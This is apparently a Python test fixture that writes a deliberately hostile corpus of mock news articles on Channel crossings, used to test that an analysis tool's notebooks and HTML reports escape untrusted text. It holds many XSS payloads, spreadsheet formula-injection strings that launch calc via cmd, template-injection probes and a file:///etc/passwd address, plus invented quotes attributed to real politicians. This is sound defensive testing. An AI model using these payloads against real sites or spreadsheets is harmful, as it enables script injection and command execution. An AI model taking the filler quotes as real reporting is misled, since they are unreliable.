"""A corpus of pages that somebody wrote to harm its reader: markup, scripts, formulas, unseen characters.

Whatever of it runs sets ``window.pwned`` or asks example.org for something.
"""

from __future__ import annotations

import csv
import html
import io
import json
import os
from pathlib import Path
from typing import Any

import nbformat
from made_report import make_once, shared_folder

import analysis as an
from analysis.report.execute import run_notebook
from analysis.report.export import FramelinesExporter
from analysis.report.run import run_report
from analysis.store import is_cached
from analysis.views.sharing import FULL

RUN = "window.pwned=1"
AWAY = "https://example.org/"
MARKUP = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    f"<svg onload={RUN}></svg>",
    f"</style><svg/onload={RUN}>",
    f"\"'><img src={AWAY}a.png onerror='{RUN}'>",
    f"</textarea></title></noscript></iframe><body onload={RUN}>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<iframe src="javascript:parent.{RUN}"></iframe>',
    f'<object data="{AWAY}b"></object><embed src="{AWAY}c">',
    f'<a href="javascript:{RUN}" autofocus onfocus="{RUN}">read</a>',
    f'<a href="java\tscript:{RUN}">read</a>',
    f"[read](javascript:{RUN}) ![see]({AWAY}d.png)",
    f'<link rel=stylesheet href="{AWAY}e.css"><style>@import "{AWAY}f";*{{background:url({AWAY}g)}}</style>',
    f'<meta http-equiv=refresh content="0;url={AWAY}h"><base href="{AWAY}">',
    f'<form action="{AWAY}i"><button autofocus>Go</button></form><input onfocus="{RUN}" autofocus>',
    f'<video poster="{AWAY}j"><source onerror="{RUN}"></video><audio src="{AWAY}k">',
    f"<math><mtext><style><img title='</style><img src=x onerror={RUN}>'></style></mtext></math>",
    f"<!--><img src=x onerror={RUN}>--> ]]> <![CDATA[<script>{RUN}</script>]]>",
    f"&lt;img src=x onerror={RUN}&gt; &#60;script&#62;{RUN}&#60;/script&#62;",
    "{{ 7*7 }} {% include 'x' %} {{ self.__init__.__globals__ }} ${7*7} #{7*7} <%= 7*7 %>",
    f'`;{RUN}//\\";{RUN}//\\u003cscript>{RUN}</script>',
    f"$\\href{{javascript:{RUN}}}{{x}}$ $$\\unicode{{<img src=x onerror={RUN}>}}$$",
    "\u202eetirw\u202c \u2066left\u2069 \u200b\ufeff\u2028\u2029 \x1b[31mred\x1b[0m \x07\x7f",
)
FORMULAS = (
    '=HYPERLINK("https://example.org/?"&A1,"read")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    '@SUM(1+1)*WEBSERVICE("https://example.org/")', "\t=1+1", "\r=1+1", "＝1+1", "=1+1",
)  # fmt: skip
ADDRESSES = (
    f"javascript:{RUN}", f" JaVaScRiPt:{RUN}", f"data:text/html,<script>{RUN}</script>", "file:///etc/passwd",
    f'https://example.org/"onmouseover="{RUN}', "https://example.org/plain", "//example.org/", "vbscript:x",
)  # fmt: skip
OUTLETS = (f"=1+1 {MARKUP[1]}", f"Example {MARKUP[2]} Post", "@SUM(1) \u202eecitoN", "Example Herald")
BOOK = "=hostile <b>"
LABELS = (f"=label {MARKUP[2]}", f"+{MARKUP[1]} {{{{7*7}}}}")
# What every article tells, so that they share passages, quotations, figures and events.
STORY = (
    "The government announced the returns deal on 9 July 2025.",
    "Some {number} migrants crossed the Channel in small boats in 2025, the Home Office said.",
    "“{formula} and {plant} must stop the boats,” said the Home Secretary, Yvette Cooper.",
    "The asylum seekers {plant} were sent to hotels, which cost £{number} million.",
    "{formula} was the answer of Nigel Farage, who said: “It is an invasion {plant} of the country.”",
    "A flood of people {plant} crossed the border, and police arrested {number} smugglers on Tuesday.",
    "Ministers agreed the deal with France in June 2025 {plant} and it is in force.",
)
CODEBOOK = """name = {name}
version = "1"

[[category]]
name = {first}
definition = {first}

[category.entries.{second}]
patterns = ["boat~", "border~"]

[[category]]
name = {second}
definition = {second}

[category.entries.{first}]
patterns = ["people", "migrants", "country"]
"""

# A notebook that shows the corpus in every view, as words, as tables and as charts.
CELLS = (
    f"import sys\nsys.path.insert(0, {str(Path(__file__).parent)!r})\n"
    "from made_hostile import BOOK, LABELS\nimport ipywidgets as widgets\nimport analysis as an",
    "pages = an.load('pages')\ntables = an.extract(pages)\nprint(pages, list(tables.articles['outlet']))",
    "print(tables.articles['text'][1])\nan.show_check(an.check_corpus(pages))",
    "an.show_pages(tables)",
    "tables.articles",
    "columns = ['article_id', 'outlet', 'byline', 'url']\n"
    "an.show_table(tables.articles, tables.articles['headline'][0], columns=columns)",
    "frames = an.frame_evidence(tables, codebook=None)\nan.show_evidence(frames, most=30)",
    "an.show_contexts(tables, frame=LABELS[0], codebook=BOOK, most=60)",
    "sorts = ['codebook', 'frame', 'voice', 'speaker', 'entry']\n"
    "read = an.Explorer(frames, dimensions=sorts, unit=LABELS[1])\n"
    "shown = read.show('frame', 'outlet', timeline=True)\n"
    "widgets.VBox([shown, read.dates(), read.contexts(), read.downloads(title=LABELS[0], note=LABELS[1])])",
    "told = an.Explorer(an.event_evidence(tables), dimensions=['instrument', 'status', 'actors'],"
    " details=['event_id', 'what', 'date_text'], unit='telling')\n"
    "lanes = told.lanes('instrument', colour='status')\n"
    "widgets.Tab([lanes, told.downloads()], titles=list(LABELS))",
    "figures = an.figure_evidence(tables)\n"
    "given = an.Explorer(figures, dimensions=['measure', 'attributed_to'], unit='figure')\n"
    "widgets.VBox([given.claims(), given.sentences(title=LABELS[0])])",
    "an.show_actor(tables)",
    "an.show_story(tables)",
    "an.show_reader(tables)",
    "an.show_keyness(tables)",
    "an.plot_frames(tables, codebook=BOOK)",
    "an.plot_frame_shares(tables, codebook=BOOK, by='outlet')",
    "an.plot_publication(tables)",
    "an.plot_timeline(tables)",
    "an.plot_speakers(tables)",
    "an.plot_reuse(tables)",
    "widgets.Accordion([widgets.Label(LABELS[0])], titles=[LABELS[1]])",
    "an.show_provenance(pages, tables)",
)
PROSE = (
    f"# {MARKUP[3]} {MARKUP[20]} boats\n\n{MARKUP[10]} {MARKUP[12]} [read](javascript:{RUN})\n\n"
    f"## {MARKUP[1]}\n\n{MARKUP[14]}\n\n`{MARKUP[0]}`"
)


def write_hostile(folder: Path) -> Path:
    """Write the corpus: a table, lines of JSON, a saved page, a page of text, a codebook.

    Returns:
        The folder.
    """
    folder.mkdir(parents=True, exist_ok=True)
    rows = [_make_row(number) for number in range(len(MARKUP))]
    half = len(rows) // 2
    table = io.StringIO(newline="")
    writer = csv.DictWriter(table, list(rows[0]))
    writer.writeheader()
    writer.writerows(rows[:half])
    write = _Writer(folder)
    write(_name("rows", ".csv"), table.getvalue())
    # A character that ends a text in C cannot stand in a table of text, but can in JSON.
    lines = [json.dumps({**row, "headline": f"{row['headline']}\0"}) for row in rows[half:]]
    write(_name("lines", ".jsonl"), "\n".join(lines))
    write(_name("saved", ".html"), _make_page(rows[0]))
    write("page.txt", f"{MARKUP[2]} on small boats\nBy {MARKUP[3]} Smith\n{rows[3]['text']}\n")
    labels = [json.dumps(label) for label in LABELS]
    write("codebook.toml", CODEBOOK.format(name=json.dumps(BOOK), first=labels[0], second=labels[1]))
    return folder


def write_notebook(path: Path) -> Path:
    """Write the notebook of all views; its corpus is the folder ``pages`` beside it."""
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell(PROSE)])
    nb.cells += [nbformat.v4.new_code_cell(source) for source in CELLS]
    nb.metadata.kernelspec = {"name": "python3", "display_name": "Python 3", "language": "python"}
    nbformat.write(nb, path)
    return path


class _Writer:
    def __init__(self, folder: Path) -> None:
        self.folder = folder

    def __call__(self, name: str, text: str) -> None:
        (self.folder / name).write_text(text, encoding="utf-8", newline="")


def _name(stem: str, ending: str) -> str:
    """A file's name with markup in it, where the system allows it."""
    markup = "" if os.name == "nt" else f'<img src=x onerror="{RUN}">'
    return f"=cmd {stem} '{{{{7*7}}}}& {markup}{ending}"


def _make_row(number: int) -> dict[str, str]:
    formula, plant = FORMULAS[number % len(FORMULAS)], MARKUP[number]
    text = "\n\n".join(STORY).format(formula=formula, plant=plant, number=1000 + number)
    return {
        "id": f"{formula}{plant}{number}",
        "outlet": OUTLETS[number % len(OUTLETS)],
        "published": f"2025-07-{10 + number % 3}",
        "headline": f"{formula} boats {plant}",
        "byline": f"{formula} {plant} Jones",
        "url": ADDRESSES[number % len(ADDRESSES)],
        "text": text,
    }


def _make_page(row: dict[str, str]) -> str:
    """A page saved from a site, in which markup is written so that it reads as text."""
    written = {name: html.escape(value) for name, value in row.items()}
    paragraphs = "".join(f"<p>{html.escape(each)}</p>" for each in row["text"].split("\n\n"))
    return (
        f'<html><head><title>{written["headline"]}</title><meta name="author" content="{written["byline"]}">'
        f'<meta property="og:site_name" content="{written["outlet"]}"><script>{RUN}</script></head>'
        f'<body onload="{RUN}"><article><h1>{written["headline"]}</h1>{paragraphs}</article></body></html>'
    )


def hostile_pages(tmp_path_factory: Any) -> dict[str, Path]:
    """The page of all views and a report's page, made once for all workers of a run; and the run notebook."""
    folder = shared_folder(tmp_path_factory.getbasetemp()) / "hostile"
    make_once(folder, _make_pages)
    return {
        "saved": folder / "saved.ipynb",
        "views": folder / "views.html",
        "report": folder / "pages" / "exports" / "02-policy-timelines.html",
        "index": folder / "pages" / "exports" / "index.html",
    }


def _make_pages(folder: Path) -> None:
    pages = write_hostile(folder / "pages")
    # So that the notebooks have it from the store.
    an.extract(an.load(pages))
    assert is_cached(an.load(pages))
    nb = nbformat.read(write_notebook(folder / "views.ipynb"), as_version=4)
    assert run_notebook(nb, folder=folder, timeout=300, progress=print, texts=FULL) is None
    nbformat.write(nb, folder / "saved.ipynb")
    page = FramelinesExporter().from_notebook_node(nb)[0]
    (folder / "views.html").write_text(page, encoding="utf-8")
    result = run_report(folder / "pages", notebooks=["02-policy-timelines"], progress=print)
    assert result.ok, (result.failures, result.unread)
